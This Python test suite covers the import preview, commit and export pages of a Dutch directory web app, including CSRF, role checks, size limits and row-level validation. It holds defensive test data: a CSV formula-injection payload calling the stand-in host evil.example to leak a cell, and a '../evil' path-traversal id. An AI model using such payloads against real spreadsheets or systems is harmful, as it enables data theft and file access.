"""Import and export in the browser, as a coordinator meets it: upload ->
preview (new, changed, unchanged; every problem per row, in Dutch) ->
Doorvoeren, which writes exactly the preview or nothing; and the downloads."""

from __future__ import annotations

import errno
import io
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest

from directory.accounts.roles import User
from directory.exchange.document import export_document, import_document
from directory.pool import maintain as pool
from tests.conftest import small_document
from tests.web.conftest import csrf_token, signed_in_client

IMPORT, PREVIEW, COMMIT = "/beheer/import", "/beheer/import/voorbeeld", "/beheer/import/doorvoeren"


@pytest.fixture
def app(fresh_app, tmp_path):
    fresh_app.config["IMPORT_FOLDER"] = str(tmp_path / "imports")
    return fresh_app


@pytest.fixture
def coordinator(app):
    return signed_in_client(app, "coordinator")


def the_store(app):
    return app.extensions["kernteamdb.store"]


def changed_document() -> bytes:
    document = small_document()
    document["professionals"][0]["name"] = "Anna de Vries-Smit"
    document["professionals"].append({"id": "p-finn", "name": "Finn Visser"})
    return json.dumps(document).encode()


def upload(client, *files: tuple[str, bytes], token: str | None = "page"):
    data: dict = {"files": [(io.BytesIO(content), name) for name, content in files]}
    if token:
        data["csrf_token"] = csrf_token(client, IMPORT) if token == "page" else token
    return client.post(IMPORT, data=data, content_type="multipart/form-data")


def preview_form(client) -> dict[str, str]:
    """The fields of the Doorvoeren form on the preview page, as a browser sends them."""
    html = client.get(PREVIEW).get_data(as_text=True)
    fields = {name: re.search(rf'name="{name}" type="hidden" value="([^"]*)"', html)
              for name in ("upload", "revision")}
    return {"csrf_token": csrf_token(client, PREVIEW),
            **{name: found.group(1) for name, found in fields.items() if found}}


def commit(client, form: dict[str, str] | None = None, *, token: bool = True):
    data = dict(form or preview_form(client))
    if not token:
        data.pop("csrf_token", None)
    return client.post(COMMIT, data=data)


def test_upload_preview_commit(app, coordinator, tmp_path):
    before = export_document(the_store(app))
    answer = upload(coordinator, ("pool.json", changed_document()))
    assert answer.status_code == 302 and answer.headers["Location"].endswith(PREVIEW)
    page = coordinator.get(PREVIEW).get_data(as_text=True)
    assert "Professionals: nieuw (1)" in page and "Finn Visser" in page
    assert "Professionals: gewijzigd (1)" in page and "Anna de Vries-Smit" in page
    assert "Doorvoeren" in page
    assert export_document(the_store(app)) == before  # a preview writes nothing

    done = commit(coordinator)
    assert done.status_code == 302
    assert the_store(app).get("professionals", "p-finn").name == "Finn Visser"
    assert "Doorgevoerd." in coordinator.get(IMPORT).get_data(as_text=True)
    assert list((tmp_path / "imports").iterdir()) == []  # the upload is gone
    assert coordinator.get(PREVIEW).status_code == 302  # and so is the preview


def test_unsafe_ids_and_control_characters_are_named_in_dutch(app, coordinator):
    people = b"id;name\n../evil;X\np-y;Y\x07Z\n"
    upload(coordinator, ("professionals.csv", people))
    page = coordinator.get(PREVIEW).get_data(as_text=True)
    assert "2 problemen: er wordt niets doorgevoerd" in page
    assert "<td>professionals.csv rij 2, kolom id</td><td>een nieuwe id bestaat alleen uit letters" in page
    assert "<td>professionals.csv rij 3, kolom name</td>" \
           "<td>bevat een onzichtbaar stuurteken (U+0007); haal het weg</td>" in page
    assert the_store(app).get("professionals", "../evil") is None


def test_csv_problems_are_listed_per_row_in_dutch_and_nothing_is_committed(app, coordinator):
    people = b"id;name;expertise\np-x;X;dementia:2\np-y;;\n"
    before = export_document(the_store(app))
    upload(coordinator, ("professionals.csv", people))
    answer = coordinator.get(PREVIEW)
    page = answer.get_data(as_text=True)
    assert "2 problemen: er wordt niets doorgevoerd" in page
    assert "<td>professionals.csv rij 2, kolom expertise</td>" \
           "<td>geen expertisegebied heeft &#39;dementia&#39; als id of naam</td>" in page
    assert "<td>professionals.csv rij 3, kolom name</td><td>verplicht veld ontbreekt</td>" in page
    assert "Doorvoeren" not in page
    with coordinator.session_transaction() as session:
        key = session["import_upload"]
    forged = {"csrf_token": csrf_token(coordinator, IMPORT), "upload": key,
              "revision": str(the_store(app).revision())}
    assert commit(coordinator, forged).status_code == 400
    assert export_document(the_store(app)) == before


def test_a_case_note_with_client_identity_is_refused_saying_what_to_remove(app, coordinator):
    cases = (b"id,opened,areas,participants,notes\n"
             b"c-9,2026-10-01,dementie,p-anna:specialist:1,bel dochter op 06-12345678\n")
    before = export_document(the_store(app))
    upload(coordinator, ("cases.csv", cases))
    page = coordinator.get(PREVIEW).get_data(as_text=True).replace("&#39;", "'")
    assert "<td>cases.csv rij 2, kolom notes</td><td>lijkt op een telefoonnummer ('06-12345678'): " \
           "haal het weg, casusnotities bevatten geen cliëntgegevens</td>" in page
    assert "Doorvoeren" not in page and export_document(the_store(app)) == before


def test_csv_files_and_a_zip_of_them_are_accepted(app, coordinator):
    cases = b"id,opened,areas,participants\nc-9,2026-10-01,dementie,p-anna:specialist:1\n"
    upload(coordinator, ("cases.csv", cases))
    assert "Casussen: nieuw (1)" in coordinator.get(PREVIEW).get_data(as_text=True)
    exported = coordinator.get("/beheer/export/kernteamdb-csv.zip")
    upload(coordinator, ("kernteamdb-csv.zip", exported.data))
    page = coordinator.get(PREVIEW).get_data(as_text=True)
    assert "Deze upload verandert niets aan de pool." in page


def test_the_pool_changing_between_preview_and_commit_is_refused(app, coordinator):
    upload(coordinator, ("pool.json", changed_document()))
    seen = preview_form(coordinator)
    store = the_store(app)
    version = store.versions("professionals", ["p-cees"])["p-cees"]
    pool.edit(store, "professionals", "p-cees", {"bio": "Tussendoor"}, version=version,
              by=User("coordinator", "coordinator", created=datetime.now(UTC)))
    between = export_document(store)
    refused = commit(coordinator, seen)
    assert refused.status_code == 409
    assert "De pool is gewijzigd sinds dit voorbeeld; er is niets doorgevoerd." \
        in refused.get_data(as_text=True)
    assert export_document(store) == between
    assert commit(coordinator).status_code == 302  # the new preview can be committed
    assert store.get("professionals", "p-finn") is not None


def test_a_preview_of_an_earlier_upload_cannot_commit_the_later_one(app, coordinator):
    upload(coordinator, ("pool.json", changed_document()))
    first_tab = preview_form(coordinator)
    upload(coordinator, ("teams.csv", b"id,name\nt-nieuw,Nieuw team\n"))
    refused = commit(coordinator, first_tab)
    assert refused.status_code == 409
    assert "dit voorbeeld hoort niet bij je laatste upload" in refused.get_data(as_text=True)
    assert the_store(app).get("teams", "t-nieuw") is None
    assert the_store(app).get("professionals", "p-finn") is None


def test_bad_json_and_twice_the_same_file_name(coordinator):
    upload(coordinator, ("pool.json", b'{"format": "kernteamdb/1",'))
    page = coordinator.get(PREVIEW).get_data(as_text=True)
    assert "geen geldige JSON: regel 1, teken 27" in page
    twice = upload(coordinator, ("teams.csv", b"id,name\n"), ("teams.csv", b"id,name\n"))
    assert twice.status_code == 400
    assert "teams.csv: twee bestanden hebben deze naam" in twice.get_data(as_text=True)


def test_missing_csrf_token_is_refused_and_nothing_changes(app, coordinator):
    before = export_document(the_store(app))
    assert upload(coordinator, ("pool.json", changed_document()), token=None).status_code == 400
    upload(coordinator, ("pool.json", changed_document()))
    assert commit(coordinator, token=False).status_code == 400
    assert export_document(the_store(app)) == before


def test_no_file_and_a_bad_zip_are_said_on_the_form(coordinator):
    answer = coordinator.post(IMPORT, data={"csrf_token": csrf_token(coordinator, IMPORT)},
                              content_type="multipart/form-data")
    assert answer.status_code == 400
    assert "Kies een JSON-document of een of meer CSV-bestanden." in answer.get_data(as_text=True)
    bad = upload(coordinator, ("oud.zip", b"geen zip"))
    assert bad.status_code == 400 and "oud.zip" in bad.get_data(as_text=True)


def test_cancel_throws_the_upload_away(app, coordinator, tmp_path):
    upload(coordinator, ("pool.json", changed_document()))
    token = csrf_token(coordinator, PREVIEW)
    assert coordinator.post("/beheer/import/annuleren", data={"csrf_token": token}).status_code == 302
    assert list((tmp_path / "imports").iterdir()) == []
    assert the_store(app).get("professionals", "p-finn") is None


@pytest.mark.parametrize("role", ["wijkwerker", "specialist", "triagist"])
def test_other_roles_get_403_everywhere(app, role):
    client = signed_in_client(app, role)
    assert "/beheer/import" not in client.get("/teams").get_data(as_text=True)
    for path in (IMPORT, PREVIEW, "/beheer/export", "/beheer/export/kernteamdb.json",
                 "/beheer/export/kernteamdb-csv.zip"):
        assert client.get(path).status_code == 403, path
    token = csrf_token(client, "/teams")
    assert client.post(IMPORT, data={"csrf_token": token, "files": [
        (io.BytesIO(changed_document()), "pool.json")]},
        content_type="multipart/form-data").status_code == 403
    assert client.post(COMMIT, data={"csrf_token": token}).status_code == 403
    assert the_store(app).get("professionals", "p-finn") is None


def test_a_role_without_import_is_refused_before_its_large_upload_is_read(app):
    """A wijkwerker sending 32 MiB to the import gets 403 at once: the body is never read."""
    client = signed_in_client(app, "wijkwerker")
    body = io.BytesIO(b"x" * (32 * 1024 * 1024))
    answer = client.post(IMPORT, input_stream=body, content_type="multipart/form-data; boundary=grens")
    assert answer.status_code == 403 and "Geen toegang" in answer.get_data(as_text=True)
    assert body.tell() == 0  # where the server stopped reading: at the start


def test_a_coordinator_may_still_send_a_large_upload(app):
    client = signed_in_client(app, "coordinator")
    token = csrf_token(client, IMPORT)
    large = b" " * (3 * 1024 * 1024) + changed_document()  # over MAX_CONTENT_LENGTH, under the import's
    answer = client.post(IMPORT, data={"csrf_token": token, "files": [(io.BytesIO(large), "pool.json")]},
                         content_type="multipart/form-data")
    assert answer.status_code == 302 and answer.headers["Location"].endswith(PREVIEW)


@pytest.mark.parametrize("role", ["coordinator", "admin"])
def test_coordinators_and_admins_see_the_menu_and_download_both_exports(app, role):
    client = signed_in_client(app, role)
    assert 'href="/beheer/"' in client.get("/teams").get_data(as_text=True)  # the Beheer menu
    assert 'href="/beheer/import"' in client.get("/beheer/").get_data(as_text=True)
    as_json = client.get("/beheer/export/kernteamdb.json")
    assert as_json.status_code == 200 and "attachment" in as_json.headers["Content-Disposition"]
    assert as_json.get_data(as_text=True) == export_document(the_store(app))
    as_zip = client.get("/beheer/export/kernteamdb-csv.zip")
    with zipfile.ZipFile(io.BytesIO(as_zip.data)) as archive:
        assert sorted(archive.namelist()) == ["cases.csv", "expertise.csv", "organisations.csv",
                                              "professionals.csv", "teams.csv"]
        assert "p-anna;Anna de Vries;" in archive.read("professionals.csv").decode("utf-8-sig")


def test_long_lists_are_cut_but_counted(app, coordinator, monkeypatch):
    monkeypatch.setattr("web.pages.bulk.SHOWN", 1)
    upload(coordinator, ("professionals.csv", b"id,name\np-x,X\np-y,Y\np-z,Z\n"))
    page = coordinator.get(PREVIEW).get_data(as_text=True)
    assert "Professionals: nieuw (3)" in page and "en nog 2" in page
    assert "<code>p-x</code>" in page and "<code>p-y</code>" not in page


def test_the_preview_speaks_english_after_the_switch(app, coordinator):
    upload(coordinator, ("professionals.csv", b"id;name;expertise\np-x;X;dementia:2\n"))
    coordinator.post("/taal", data={"csrf_token": csrf_token(coordinator, IMPORT), "lang": "en"})
    page = coordinator.get(PREVIEW).get_data(as_text=True)
    assert "<td>professionals.csv row 2, column expertise</td>" \
           "<td>no expertise area has &#39;dementia&#39; as its id or name</td>" in page


def test_a_waiting_upload_is_offered_and_an_expired_one_is_gone(app, coordinator, monkeypatch, tmp_path):
    upload(coordinator, ("pool.json", changed_document()))
    assert "Er staat nog een upload klaar" in coordinator.get(IMPORT).get_data(as_text=True)
    monkeypatch.setattr("web.pages.parts.uploads.KEEP", -1)
    answer = coordinator.get(PREVIEW)
    assert answer.status_code == 302 and answer.headers["Location"].endswith(IMPORT)
    assert "Er staat geen upload (meer) klaar" in coordinator.get(IMPORT).get_data(as_text=True)
    assert list((tmp_path / "imports").iterdir()) == []


def test_imports_may_be_larger_than_other_requests(app, coordinator):
    rows = "".join(f"p-{n:05d},Persoon {n}\n" for n in range(400)).encode()
    app.config["MAX_CONTENT_LENGTH"] = 2000
    token = csrf_token(coordinator, IMPORT)
    assert coordinator.post("/taal", data={"csrf_token": token, "lang": "nl",
                                           "next": "x" * 3000}).status_code == 413
    answer = upload(coordinator, ("professionals.csv", b"id,name\n" + rows))
    assert answer.status_code == 302
    assert "Professionals: nieuw (400)" in coordinator.get(PREVIEW).get_data(as_text=True)
    app.config["IMPORT_MAX_CONTENT_LENGTH"] = 2000
    assert upload(coordinator, ("professionals.csv", b"id,name\n" + rows)).status_code == 413


def test_a_pool_csv_cannot_carry_is_said_and_json_still_downloads(app, coordinator):
    document = small_document()
    document["organisations"][2]["wijken"] = ["Noord|Zuid"]
    import_document(json.dumps(document), the_store(app))
    refused = coordinator.get("/beheer/export/kernteamdb-csv.zip")
    assert refused.status_code == 400
    page = refused.get_data(as_text=True)
    assert "De pool kan niet als CSV worden geschreven; exporteer hem als JSON." in page
    assert "organisations.csv rij 2, kolom wijken: &#39;Noord|Zuid&#39; bevat &#39;|&#39;" in page
    assert coordinator.get("/beheer/export/kernteamdb.json").status_code == 200


def test_a_formula_in_a_bio_is_neutralised_in_the_csv_zip_and_reads_back_unchanged(app, coordinator):
    store = the_store(app)
    formula = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'
    version = store.versions("professionals", ["p-anna"])["p-anna"]
    pool.edit(store, "professionals", "p-anna", {"bio": formula}, version=version,
              by=User("coordinator", "coordinator", created=datetime.now(UTC)))
    as_zip = coordinator.get("/beheer/export/kernteamdb-csv.zip")
    with zipfile.ZipFile(io.BytesIO(as_zip.data)) as archive:
        text = archive.read("professionals.csv").decode("utf-8-sig")
    assert ";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Klik\"\")\";" in text
    upload(coordinator, ("kernteamdb-csv.zip", as_zip.data))
    assert "Deze upload verandert niets aan de pool." in coordinator.get(PREVIEW).get_data(as_text=True)


def test_an_upload_on_a_full_disk_is_a_dutch_503_and_leaves_nothing(app, coordinator, monkeypatch, tmp_path):
    token = csrf_token(coordinator, IMPORT)
    written = []

    def full(path, data):  # the first file fits, the next meets a full disk
        if written:
            raise OSError(errno.ENOSPC, "No space left on device")
        written.append(path)
        return real(path, data)

    real = Path.write_bytes
    monkeypatch.setattr(Path, "write_bytes", full)
    answer = upload(coordinator, ("organisations.csv", b"id,name\norg-x,X\n"),
                    ("professionals.csv", b"id,name\np-x,X\n"), token=token)
    assert answer.status_code == 503 and "De opslag is vol" in answer.get_data(as_text=True)
    assert written and list((tmp_path / "imports").iterdir()) == []
